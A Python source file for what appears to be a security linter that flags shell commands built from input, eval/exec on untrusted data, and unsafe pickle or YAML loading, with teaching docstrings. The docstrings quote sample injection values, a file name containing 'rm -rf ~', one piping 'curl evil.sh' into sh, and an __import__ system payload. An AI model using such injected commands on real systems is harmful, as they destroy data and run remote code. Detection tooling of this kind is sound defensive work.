"""Running someone else's text as code: shell commands, eval/exec, unsafe loaders."""

from __future__ import annotations

from collections.abc import Iterator

from roadmap_coach.analysis.facts import Arg, Call, FileFacts, Span
from roadmap_coach.rules.lessons.base import Fix, LessonFinding, SecurityLesson, WorkspaceContext
from roadmap_coach.rules.lessons.edits import import_edit, replace
from roadmap_coach.rules.lessons.inputs import SHELL_QUOTES, constant_text, untrusted
from roadmap_coach.rules.lessons.reads import FILE, NAMES, reads

_SUBPROCESS = frozenset(
    {
        "subprocess.run",
        "subprocess.call",
        "subprocess.check_call",
        "subprocess.check_output",
        "subprocess.Popen",
    }
)
_ALWAYS_SHELL = frozenset(
    {
        "os.system",
        "os.popen",
        "subprocess.getoutput",
        "subprocess.getstatusoutput",
        "asyncio.create_subprocess_shell",
        "commands.getoutput",
    }
)
_SHELLS = frozenset(
    {"sh", "bash", "zsh", "/bin/sh", "/bin/bash", "cmd", "cmd.exe", "powershell", "pwsh"}
)


class ShellCommandFromInput(SecurityLesson):
    """## What it catches
    A shell command built from values (f-string, `+`, `%`, `.format`) or taken
    from input, and run through a shell: `subprocess.run(..., shell=True)`,
    `os.system()`, `os.popen()`, `subprocess.getoutput()`,
    `asyncio.create_subprocess_shell()`, or `["sh", "-c", ...]`.

    ## Why it matters
    The shell reads `;`, `&&`, `|`, `$(...)` and backticks as instructions. A file
    name such as `x; rm -rf ~` or `$(curl evil.sh | sh)` turns "compress this
    file" into "run my program on your server" (command injection).

    ## Example
    ```python
    os.system(f"convert {filename} thumbnail.png")
    ```

    ## The safe way
    Pass a list of arguments and no shell: each value stays one argument, whatever
    characters it contains.
    ```python
    subprocess.run(["convert", filename, "thumbnail.png"], check=True)
    ```
    Constant commands (`os.system("clear")`, `subprocess.run("ls -l", shell=True)`)
    and values quoted with `shlex.quote()` are not reported.
    """

    code = "RC508"
    facts_read = reads(FILE, NAMES, "assigns", "calls", "functions")
    title = "Shell command built from input"

    def find(self, facts: FileFacts, context: WorkspaceContext) -> Iterator[LessonFinding]:
        for call in facts.calls:
            command = _shell_command(call)
            if command is None or not untrusted(
                facts, command, call.function, call.span.line, SHELL_QUOTES
            ):
                continue
            message = (
                f"This command reaches a shell through `{call.name}()` and is built from a value: "
                "`;`, `|` or `$(…)` in that value would run other commands. Pass a list of "
                'arguments without a shell, e.g. `subprocess.run(["ls", path])`.'
            )
            yield self.finding(facts, call.span, message)


def _shell_command(call: Call) -> Arg | None:
    first = call.args[0] if call.args else call.kwargs.get("args") or call.kwargs.get("cmd")
    if call.qname in _ALWAYS_SHELL:
        return first
    if call.qname not in _SUBPROCESS or first is None:
        return None
    shell = call.kwargs.get("shell")
    if shell is not None and shell.kind == "bool" and shell.value == "True":
        return first if first.kind not in ("list", "tuple") else None
    items = first.items or []
    if first.kind in ("list", "tuple") and len(items) >= 3:
        program, flag = items[0], items[1]
        if (
            program.kind == "str"
            and program.value in _SHELLS
            and flag.value in ("-c", "/c", "-Command")
        ):
            return items[2]
    return None


_EVAL = frozenset({"eval", "exec", "builtins.eval", "builtins.exec"})


class EvalOfInput(SecurityLesson):
    """## What it catches
    The built-in `eval()` or `exec()` called on anything but a constant string.

    ## Why it matters
    `eval` runs its argument as Python, with all the power of your program. If any
    part of it comes from a user, a request, a file or a database,
    `__import__('os').system('…')` runs with your server's permissions. There is
    no reliable way to make `eval` safe by filtering the text first.

    ## Example
    ```python
    result = eval(request.args["expression"])
    ```

    ## The safe way
    Parse the data instead of running it: `ast.literal_eval()` for Python
    literals, `json.loads()` for JSON, `int()`/`float()` for numbers, or a small
    dictionary of allowed operations.
    ```python
    import ast

    numbers = ast.literal_eval(request.args["numbers"])
    ```
    `model.eval()`, `df.eval(...)`, `ast.literal_eval()` and `eval` of a constant
    are not reported.
    """

    code = "RC509"
    facts_read = reads(FILE, NAMES, "assigns", "calls", "functions")
    title = "eval/exec on input"

    def find(self, facts: FileFacts, context: WorkspaceContext) -> Iterator[LessonFinding]:
        for call in facts.calls:
            if call.qname not in _EVAL or call.name not in _EVAL:
                continue
            code = call.args[0] if call.args else call.kwargs.get("source")
            if code is None or constant_text(facts, code, call.function, call.span.line):
                continue
            message = (
                f"`{call.name}()` runs its argument as Python code; if any of it comes from outside "
                "your program, whoever wrote it controls your server. Parse the data instead "
                "(`ast.literal_eval`, `json.loads`, `int`)."
            )
            yield self.finding(facts, call.span, message)


_PICKLE_MODULES = frozenset({"pickle", "cPickle", "_pickle", "dill", "cloudpickle", "marshal"})
_UNSAFE_LOADERS = {
    "pickle": "`pickle` runs code while it loads",
    "jsonpickle.decode": "`jsonpickle.decode` rebuilds arbitrary objects",
    "pandas.read_pickle": "`read_pickle` unpickles, and unpickling runs code",
    "shelve.open": "`shelve` stores pickles, and unpickling runs code",
}
_SAFE_YAML_LOADERS = frozenset({"SafeLoader", "CSafeLoader", "BaseLoader", "CBaseLoader"})


class UnsafeDeserialisation(SecurityLesson):
    """## What it catches
    Loading data with a format that can run code: `pickle.load`/`pickle.loads`
    (also `dill`, `cloudpickle`, `marshal`, `pandas.read_pickle`, `shelve`,
    `jsonpickle.decode`), and `yaml.load` without a safe loader (or
    `yaml.unsafe_load`).

    ## Why it matters
    A pickle is a small program that Python runs to rebuild objects, and
    `yaml.load` with the default or full loader can build any Python object.
    Whoever can change the bytes (a cookie, an upload, a cache entry, a message
    queue) can make your server run their code.

    ## Example
    ```python
    config = yaml.load(request.data)
    session = pickle.loads(redis.get(key))
    ```

    ## The safe way
    Use a data-only format or loader: `yaml.safe_load`, `json.loads`, or a schema
    library (pydantic, marshmallow) for objects.
    ```python
    config = yaml.safe_load(request.data)
    session = json.loads(redis.get(key))
    ```
    `yaml.load(..., Loader=yaml.SafeLoader)`, `yaml.safe_load` and `pickle.dumps`
    are not reported. The quick fix switches `yaml.load` to `yaml.safe_load`.
    """

    code = "RC510"
    facts_read = reads(FILE, NAMES, "assigns", "calls", "functions")
    block_local = True
    imports_read = ("yaml",)  # `import_edit(facts, "yaml")`
    quick_fix = "`yaml.load` becomes `yaml.safe_load`"
    title = "Unsafe deserialisation"

    def find(self, facts: FileFacts, context: WorkspaceContext) -> Iterator[LessonFinding]:
        for call in facts.calls:
            module, _, function = call.qname.rpartition(".")
            if module in _PICKLE_MODULES and function in ("load", "loads", "Unpickler"):
                why = _UNSAFE_LOADERS["pickle"]
            elif call.qname in _UNSAFE_LOADERS:
                why = _UNSAFE_LOADERS[call.qname]
            elif module == "yaml" and _unsafe_yaml(call, function):
                why = f"`yaml.{function}` without a safe loader can build any Python object"
                message = (
                    f"{why}: a crafted document runs code on your server. Use `yaml.safe_load`."
                )
                yield self.finding(facts, call.span, message, _safe_load_fix(facts, call, function))
                continue
            else:
                continue
            message = (
                f"{why}: whoever can change the data can run code on your server. Load data "
                "with a data-only format (`json.loads`, `yaml.safe_load`) instead."
            )
            yield self.finding(facts, call.span, message)


def _unsafe_yaml(call: Call, function: str) -> bool:
    if function in ("unsafe_load", "unsafe_load_all"):
        return True
    if function not in ("load", "load_all"):
        return False
    loader = call.kwargs.get("Loader") or (call.args[1] if len(call.args) > 1 else None)
    if loader is None:
        return True
    name = (loader.value or "").rsplit(".", 1)[-1]
    return name not in _SAFE_YAML_LOADERS


def _safe_load_fix(facts: FileFacts, call: Call, function: str) -> Fix | None:
    """`yaml.load(stream, Loader=…)` -> `yaml.safe_load(stream)`."""
    if not call.args or call.args[0].span is None:
        return None
    stream = call.args[0].span
    safe = "safe_load_all" if function.endswith("load_all") else "safe_load"
    edits = [
        replace(
            facts.path,
            Span(call.span.line, call.span.col, stream.line, stream.col),
            f"yaml.{safe}(",
        ),
        replace(
            facts.path,
            Span(stream.end_line, stream.end_col, call.span.end_line, call.span.end_col),
            ")",
        ),
    ]
    added = import_edit(facts, "yaml")
    if added is not None:
        edits.insert(0, added)
    return Fix(f"Use yaml.{safe}", tuple(edits))
